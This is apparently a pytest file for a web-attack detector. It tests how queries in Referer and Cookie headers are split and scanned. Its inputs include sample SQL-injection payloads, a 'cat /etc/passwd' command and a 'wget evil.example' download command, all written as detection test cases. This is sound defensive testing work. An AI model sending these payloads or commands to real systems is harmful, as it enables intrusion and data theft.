"""A URL header whose query is plain is read as the request's own URL is: the part before the query, then each value."""
from __future__ import annotations

import urllib.parse

import pytest

from sensor.detect import Engine, verdict
from sensor.detect.corpus import httpparams_rows
from sensor.detect.engine import _plain_cookie_query, _query_url
from sensor.detect.rawrequest import parse_raw


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


def _with_referer(referer: str, target: str = "/p") -> object:
    return parse_raw(f"GET {target} HTTP/1.1\r\nHost: shop.example\r\nReferer: {referer}\r\n\r\n".encode())


def _with_cookie(cookie: str) -> object:
    return parse_raw(f"GET /p HTTP/1.1\r\nHost: shop.example\r\nCookie: {cookie}\r\n\r\n".encode())


CONSENT = ("isGpcEnabled=0&datestamp=Sat+Nov+28+2026+14%3A33%3A12+GMT%2B0100&version=202409.1.0"
           "&groups=C0001%3A1%2CC0002%3A0%2CC0003%3A1&hosts=&consentId=1234567-ab12")


@pytest.mark.parametrize("url, pieces", [
    ("https://shop.example/search?q=red+wool%2C+linen&page=2&empty=",
     [("", "https://shop.example/search"), ("q", "red wool, linen"), ("page", "2")]),
    ("http://shop.example:8080/a/b?sort[by]=price-asc&_=1712",
     [("", "http://shop.example:8080/a/b"), ("sort[by]", "price-asc"), ("_", "1712")]),
    ("https://shop.example/search?q=\u00e9t\u00e9+caf\u00e9", [("", "https://shop.example/search"), ("q", "\u00e9t\u00e9 caf\u00e9")]),
])
def test_a_plain_query_splits_into_the_url_before_it_and_its_decoded_values(url, pieces):
    assert _query_url(url) == pieces


@pytest.mark.parametrize("url", [
    "https://shop.example/search?q=1%27+or+%271%27%3D%271",   # a quote, and `=` inside a value
    "https://shop.example/search?q=a;id",                     # a separator
    "https://shop.example/search?q=x&next=https://evil.example/",  # a URL in a value
    "https://shop.example/search?q=red#frag",                 # a fragment
    "https://shop.example/search?flag",                       # a name without a value
    "https://shop.example/search?q%27=1",                     # a name that is not a name
    "https://shop.example/search?1=1",                        # nor is a number
    "https://shop.example/search?q=%00",                      # a NUL
    "ftp://shop.example/x?q=1",                               # not http(s)
    "/search?q=red",                                          # not absolute
])
def test_anything_else_keeps_the_whole_url_reading(url):
    assert _query_url(url) is None


def test_sql_in_a_plain_query_is_still_found_on_the_referer(engine):
    hits = engine.inspect(_with_referer("https://shop.example/item?id=1+union+select+password,2+from+users"))
    assert verdict(hits) == "attack"
    assert any(h.type == "sqli" and h.point == ["header", "REFERER"] for h in hits), hits


def test_a_shell_command_where_a_command_is_expected_is_still_found(engine):
    hits = engine.inspect(_with_referer("https://shop.example/run?cmd=cat+/etc/passwd"))   # `/`: the whole reading
    assert any(h.type == "rce" for h in hits), hits
    hits = engine.inspect(_with_referer("https://shop.example/tools?exec=wget+evil.example+-O+x"))
    assert any(h.type == "rce" for h in hits), hits


def test_browser_referers_with_plain_queries_are_clean(engine):
    for ref in ("https://shop.example/search?q=red+wool+scarf&page=3", "https://www.google.com/search?q=best+boots+2026",
                "https://shop.example/c/sale?sort=price-desc&size=m&color=blue&utm_source=newsletter"):
        assert engine.inspect(_with_referer(ref)) == [], ref


def test_sql_findings_on_a_plain_query_referer_are_the_requests_own_query_findings(engine):
    """The claim the split rests on, over every fourth httpparams value whose query is plain (attacks and benign): the
    SQL rules found on the Referer are those found on the same query sent as the request's own."""
    compared = 0
    for row in list(httpparams_rows("all"))[::4]:
        query = f"q={urllib.parse.quote_plus(row['value'])}&page=2"
        referer = f"https://shop.example/search?{query}"
        if _query_url(referer) is None:
            continue
        compared += 1
        on_referer = {h.rule for h in engine.inspect(_with_referer(referer)) if h.type == "sqli"}
        on_own = {h.rule for h in engine.inspect(_with_referer("https://shop.example/", f"/search?{query}"))
                  if h.type == "sqli" and h.point[0] == "get"}
        assert on_referer == on_own, row["value"]
    assert compared > 3000


def test_a_consent_cookie_splits_into_its_pairs():
    value = CONSENT.replace("%3A", ":").replace("%2C", ",").replace("%2B", "+")   # as the cookie parser decodes it
    assert _plain_cookie_query(value) == [
        ("isGpcEnabled", "0"), ("datestamp", "Sat+Nov+28+2026+14:33:12+GMT+0100"), ("version", "202409.1.0"),
        ("groups", "C0001:1,C0002:0,C0003:1"), ("consentId", "1234567-ab12")]
    assert _plain_cookie_query("a=1") is None                 # one pair: nothing to split
    assert _plain_cookie_query("a=1'&b=or 1") is None         # a quote keeps the whole reading
    assert _plain_cookie_query("a=1&b=(select 1)") is None


def test_cookies_of_a_browser_are_clean_and_sql_in_a_plain_cookie_query_is_found(engine):
    assert engine.inspect(_with_cookie(f"OptanonConsent={CONSENT}; lang=en")) == []
    hits = engine.inspect(_with_cookie("prefs=theme=dark&sort=1%20union%20select%20password,2%20from%20users"))
    assert verdict(hits) == "attack" and any(h.type == "sqli" and h.point[0] == "cookie" for h in hits), hits


def test_sql_findings_on_a_plain_cookie_query_are_the_requests_own_query_findings(engine):
    """The same claim for a cookie holding a query (`prefs=q=<value>&page=2`): over every fourth httpparams value whose
    pair is plain, the SQL rules found on the cookie are those found on the request's own query."""
    compared = 0
    for row in list(httpparams_rows("all"))[::4]:
        encoded = urllib.parse.quote(row["value"], safe="")
        if _plain_cookie_query(f"q={row['value']}&page=2") is None or not row["value"].strip():
            continue
        compared += 1
        on_cookie = {h.rule for h in engine.inspect(_with_cookie(f"prefs=q={encoded}&page=2")) if h.type == "sqli"}
        on_own = {h.rule for h in engine.inspect(_with_referer("https://shop.example/", f"/search?q={encoded}&page=2"))
                  if h.type == "sqli" and h.point[0] == "get"}
        assert on_cookie == on_own, row["value"]
    assert compared > 3000
